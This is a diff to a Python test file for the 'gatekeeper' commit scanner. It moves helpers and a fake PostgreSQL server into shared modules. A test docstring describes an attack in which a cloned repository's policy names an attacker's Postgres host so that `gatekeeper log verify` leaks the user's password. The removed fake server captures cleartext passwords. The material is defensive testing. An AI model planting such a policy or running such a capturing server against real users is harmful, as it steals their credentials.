@@ -50,48 +50,26 @@ from __future__ import annotations
 
 import json
 import os
-import socket
-import struct
 import subprocess
 import sys
-import threading
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from tests.hook_helpers import DANA, TEST_POLICY
+from tests.pg_fake import FakePostgres
 from tests.repo_builder import RepoBuilder
+from tests.scan_helpers import ALL_SCANNERS_POLICY, SECRETS_ONLY_POLICY, check_commit
 
-ALL_SCANNERS = TEST_POLICY.replace(
-    "mobile: {scanners: [], block_at: high, review: {approvals: 1}}",
-    "mobile: {scanners: [secrets, semgrep, bandit], block_at: medium}",
-).replace("default: {scanners: [], block_at: critical}",
-          "default: {scanners: [secrets, semgrep, bandit], block_at: medium}")
-SECRETS_ONLY = ALL_SCANNERS.replace("[secrets, semgrep, bandit]", "[secrets]")
+ALL_SCANNERS = ALL_SCANNERS_POLICY
+SECRETS_ONLY = SECRETS_ONLY_POLICY
 
 
 def _check(tmp_path: Path, files: dict[str, str], *, policy: str = ALL_SCANNERS,
            executable: bool = False) -> tuple[int, dict[str, Any]]:
     """Dana's one commit of `files` on top of a README, judged by the real `gatekeeper check --format json`."""
-    repo = RepoBuilder.init(tmp_path / "repo")
-    policy_file = tmp_path / "policy.yml"
-    policy_file.write_text(policy)
-    base = repo.commit("base\n", {"README.md": "x\n"}, author=DANA, committer=DANA)
-    for rel, text in files.items():
-        path = repo.write(rel, text)
-        if executable:
-            path.chmod(0o755)
-        repo.git("add", "--", rel)
-    repo.commit("Add code\n", author=DANA, committer=DANA)
-    env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "INPUT_", "GATEKEEPER_"))}
-    proc = subprocess.run([sys.executable, "-m", "gatekeeper", "check", "--policy", str(policy_file), "--format",
-                           "json", "--base", base], cwd=repo.path, capture_output=True, text=True, check=False,
-                          timeout=300, env=env)
-    try:
-        return proc.returncode, dict(json.loads(proc.stdout))
-    except ValueError:
-        raise AssertionError(proc.stdout + proc.stderr) from None
+    return check_commit(tmp_path, files, policy, executable=executable)
 
 
 def _rules(verdict: dict[str, Any]) -> list[tuple[str, str | None, int | None, bool]]:
@@ -299,54 +277,6 @@ def test_an_interpreter_line_env_runs_as_python_is_read_as_python(tmp_path: Path
 # -- 7. `gatekeeper log verify` in a hostile clone connects where the clone's policy says --------------------------
 
 
-class _FakePostgres:
-    """Accepts libpq, refuses SSL/GSS encryption, asks for a cleartext password and keeps what it is sent."""
-
-    def __init__(self) -> None:
-        self.sock = socket.socket()
-        # (127.0.0.2 stands for another host: a repository's policy may name a server on this host, 127.0.0.1.)
-        self.sock.bind(("127.0.0.2", 0))
-        self.sock.listen(4)
-        self.sock.settimeout(20)
-        self.port = self.sock.getsockname()[1]
-        self.received: list[bytes] = []
-        self.thread = threading.Thread(target=self._serve, daemon=True)
-        self.thread.start()
-
-    def _read(self, conn: socket.socket, n: int) -> bytes:
-        data = b""
-        while len(data) < n:
-            chunk = conn.recv(n - len(data))
-            if not chunk:
-                raise ConnectionError
-            data += chunk
-        return data
-
-    def _serve(self) -> None:
-        try:
-            while True:
-                conn, _ = self.sock.accept()
-                with conn:
-                    conn.settimeout(10)
-                    try:
-                        while True:  # SSLRequest / GSSENCRequest, then the startup message
-                            length = struct.unpack("!I", self._read(conn, 4))[0]
-                            body = self._read(conn, length - 4)
-                            self.received.append(body)
-                            if length == 8 and struct.unpack("!I", body)[0] in (80877103, 80877104):
-                                conn.sendall(b"N")
-                                continue
-                            break
-                        conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
-                        kind = self._read(conn, 1)
-                        length = struct.unpack("!I", self._read(conn, 4))[0]
-                        self.received.append(kind + self._read(conn, length - 4))
-                    except (ConnectionError, OSError):
-                        pass
-        except OSError:
-            return
-
-
 def test_log_verify_in_a_clone_does_not_hand_the_users_pg_password_to_a_host_the_clone_names(tmp_path: Path) -> None:
     """Attack: a repository commits `.gatekeeper.yml` with `log: {path: "postgresql://<attacker>:5432/audit"}`. Its
     victim clones it and runs `gatekeeper log verify` (or show/export) there with no --log — since 9fd40da
@@ -357,7 +287,7 @@ def test_log_verify_in_a_clone_does_not_hand_the_users_pg_password_to_a_host_the
     Severity: medium (credential disclosure / outbound connection chosen by repository content). Secure: a
     work tree policy's log.path is held to the repository rules (no URL, no path outside), or the command asks for
     --log: nothing is sent to the named host."""
-    server = _FakePostgres()
+    server = FakePostgres()
     repo = RepoBuilder.init(tmp_path / "clone")
     repo.commit("policy\n", {".gatekeeper.yml": TEST_POLICY + f"log: {{path: \"postgresql://victim@127.0.0.2:"
                                                              f"{server.port}/audit?connect_timeout=5\"}}\n"},
